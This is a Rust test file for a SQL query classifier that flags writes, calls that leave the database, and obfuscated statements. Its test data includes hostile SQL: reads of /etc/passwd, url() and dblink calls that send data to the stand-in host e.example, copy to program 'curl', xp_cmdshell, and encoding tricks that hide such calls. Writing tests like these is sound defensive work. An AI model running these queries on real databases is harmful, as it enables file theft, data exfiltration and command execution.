use super::*;

#[test]
fn plain_reads_are_nothing_beyond() {
    for sql in [
        "SELECT * FROM t WHERE url = 'x' AND file LIKE '%y' LIMIT 5;",
        "  -- how many\n (select count(*) from t)",
        "WITH a AS (SELECT 1) SELECT * FROM a",
        "EXPLAIN ANALYZE SELECT remote, input FROM t",
        "SHOW TABLES",
        "select replace(name, 'a', 'b'), created_at, updated_at, deleted from t",
        "select http_status from requests",
        "select sqlite_version(), network(ip), urlencode(q) from t",
        "select utl_raw.cast_to_varchar2(a), dbms_lob.getlength(b) from t",
        "select xp_total, query from players",
        "select * from t where a is distinct from '1.5' and b is not distinct from 'x/y'",
        "select extract(day from '2024-01-01 10:00'::timestamp), trim(both from ' a.b ')",
        "select trim(leading '0' from 'x.y'), substring('a' from 'x.y')",
        "select position('a' from 'x.y'), overlay('a.b' placing 'c' from 2)",
        "select 'mail from ' || name from t",
        "select * from t join u using (id) where type = 'image/*' or type = '*/*'",
        "select a /* one */, b /* two */ from t\r\nwhere a like '50\\%'",
        "select name from t where name glob 'a*'",
        "",
    ] {
        assert_eq!(beyond(sql), [], "{sql}");
    }
}

#[test]
fn what_writes_is_found_wherever_it_stands() {
    for (sql, word) in [
        ("DROP TABLE t", "drop"),
        ("select 1; COMMIT; drop table t", "commit"),
        ("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", "delete"),
        ("SELECT * INTO n FROM t", "into"),
        ("/* x */ -- y\n uPdAtE t SET a = 1", "update"),
        ("explain analyze create table x as select 1", "create"),
        ("DO $$ BEGIN END $$", "do"),
        ("set session characteristics as transaction read write", "set"),
        ("explain analyze grant all on t to public", "grant"),
        ("select 1into n from t", "1into"),
        ("select setval('s', 1)", "setval"),
        ("select nextval ('s')", "nextval"),
    ] {
        assert!(beyond(sql).contains(&Beyond::Writes(word.into())), "{sql}: {:?}", beyond(sql));
    }
}

#[test]
fn what_leaves_the_database_is_found_wherever_it_stands() {
    for (sql, word) in [
        ("select * from dblink('host=e.example', 'select 1') as t(a int)", "dblink"),
        ("SELECT * FROM url('http://e.example/?d=' || x, CSV)", "url"),
        ("select \"dblink\" ('x')", "dblink"),
        ("select '/*', url/**/('http://e.example')", "url"),
        ("select url --\n('http://e.example')", "url"),
        ("select * from remoteSecure('e.example', db.t)", "remotesecure"),
        ("select pg_read_file('/etc/passwd')", "pg_read_file"),
        ("select load_extension('x')", "load_extension"),
        ("select query_to_xml('select dbl' || 'ink(1)', true, true, '')", "query_to_xml"),
        ("copy t to program 'curl e.example'", "program"),
        ("select net.http_post('https://e.example')", "http_post"),
        ("select readfile('/x')", "readfile"),
        ("select url #\n('http://e.example')", "url"),
        ("select url //\n('http://e.example')", "url"),
        ("select \u{201c}url\u{201d}('http://e.example')", "url"),
        ("select * from 'http://e.example/x.csv'", "from"),
        ("select * from t join /* x */ 'it''s.parquet' on true", "join"),
        ("select * from e'/etc/passwd'", "from"),
        ("select * from $a$/etc/passwd$a$", "from"),
        ("select * from (('s3://b/*'))", "from"),
        ("describe 'x.csv'", "describe"),
        ("select 1from 'x.csv'", "1from"),
        ("select * -- trim(\n from 'x.csv'", "from"),
        ("select 'trim(', * from 'x.csv'", "from"),
        ("select * -- is distinct\n from 'x.csv'", "from"),
        ("select transform(a) using 'curl' from t", "using"),
        ("select * from fsdir where path = '/etc'", "fsdir"),
        ("select utl_http.request('http://e.example') from dual", "utl_http"),
        ("select dbms_ldap.init('e.example', 1) from dual", "dbms_ldap"),
        ("select dbms_xmlgen.getxml('select 1') from dual", "dbms_xmlgen"),
        ("select 1 exec xp_cmdshell 'dir'", "xp_cmdshell"),
        (
            "select * from fn_xe_file_target_read_file('//e.example/x', null, null, null)",
            "fn_xe_file_target_read_file",
        ),
        ("select * from sys.dm_os_enumerate_filesystem('//e.example', '*')", "dm_os_enumerate_filesystem"),
        ("select * from ts_stat('select 1')", "ts_stat"),
        ("select ts_rewrite('a'::tsquery, 'select 1')", "ts_rewrite"),
        ("select * from crosstab('select 1') as t(a int)", "crosstab"),
        ("select cron.schedule('* * * * *', 'x')", "schedule"),
        ("select graphql.resolve('mutation')", "resolve"),
        ("select pg_background_launch('x')", "pg_background_launch"),
        ("select aws_lambda.invoke('x', '{}')", "invoke"),
        ("select * from query('select 1')", "query"),
        ("select * from glob('/etc/*')", "glob"),
        ("select * from st_read('/vsicurl/http://e.example')", "st_read"),
        ("select * from read_text('/etc/passwd')", "read_text"),
        ("select * from arrowFlight('e.example', 'x')", "arrowflight"),
        ("select * from cosn('x')", "cosn"),
        ("select * from oss('x')", "oss"),
        ("select * from hive('thrift://e.example', 'a', 'b')", "hive"),
        ("select system$cancel_all_queries(1)", "system$cancel_all_queries"),
        ("select * from external_query('c', 'x')", "external_query"),
        ("select reflect('java.lang.Runtime', 'x')", "reflect"),
        ("select bfilename('D', 'x') from dual", "bfilename"),
    ] {
        assert!(beyond(sql).contains(&Beyond::Leaves(word.into())), "{sql}: {:?}", beyond(sql));
    }
}

#[test]
fn what_hides_is_unclear() {
    for sql in [
        "select U&\"d\\0062link\"('x')",
        "select 1 /*!50000 into outfile 'x' */",
        "select 1 /*T! x */",
        "'; drop table t",
        "/* /* */ select 1 */ drop table t",
        "-- x\rdrop table t",
        "select 1\0",
        "select * from `u\\x72l`('http://e.example')",
    ] {
        assert!(beyond(sql).iter().any(|one| matches!(one, Beyond::Unclear(_))), "{sql}");
    }
    assert_eq!((statements("a; b;\n -- x\n"), verb(" (Delete from x")), (2, "delete".to_owned()));
}

#[test]
fn a_where_limits_only_what_it_stands_in() {
    for sql in [
        "delete from t WHERE a",
        "update t set a = (select 1) where (id = 1)",
        "delete from t where \"a\" = 1 returning *",
        "update t set [where] = 'x', b = 'it''s' where 1 = a",
    ] {
        assert!(is_limited(sql), "{sql}");
    }
    for sql in [
        "delete from elsewhere",
        "delete from t -- where a = 1",
        "delete from t /* where a */",
        "update t set a = 'where id'",
        "update t set \"where\" = b",
        "update t set a = (select b from c where d = 1)",
        "delete from t where 1 = 1 returning a",
        "delete from t where 'a' like '%' or true",
    ] {
        assert!(!is_limited(sql), "{sql}");
    }
}

#[test]
fn the_name_of_a_table_is_no_call_and_a_string_ends_no_statement() {
    for sql in [
        "INSERT INTO files (id, name) VALUES (1,'x')",
        "insert or replace into \"files\" (id) values (1)",
        "CREATE TABLE urls (id int, url text)",
        "create table if not exists files (id varchar(9) default 'x')",
        "create index i on files (name)",
        "create table t (a int references files (id))",
    ] {
        assert!(!beyond(sql).iter().any(|one| matches!(one, Beyond::Leaves(_))), "{sql}: {:?}", beyond(sql));
    }
    for sql in [
        "insert into openquery (srv, 'select 1') values (1)",
        "insert into function url('http://e.example', csv) select 1",
        "create table t as url('http://e.example')",
        "create table t as select a from b join c on url(d)",
        "create table files (a int default url('http://e.example'))",
        "insert into files (a) select url(b) from t",
    ] {
        assert!(beyond(sql).iter().any(|one| matches!(one, Beyond::Leaves(_))), "{sql}: {:?}", beyond(sql));
    }
    let sql = "INSERT INTO notes (body) VALUES ('first; second -- it''s')";
    assert_eq!((statements(sql), beyond(sql).len()), (1, 2), "{:?}", beyond(sql));
    for sql in ["a '\\'; b '", "a -- '\n; b '", "a q'['; b ]'", "a ` ' `; b '", "a '; b", "a /* ' */; b '"] {
        assert_eq!(statements(sql), 2, "{sql}");
    }
}
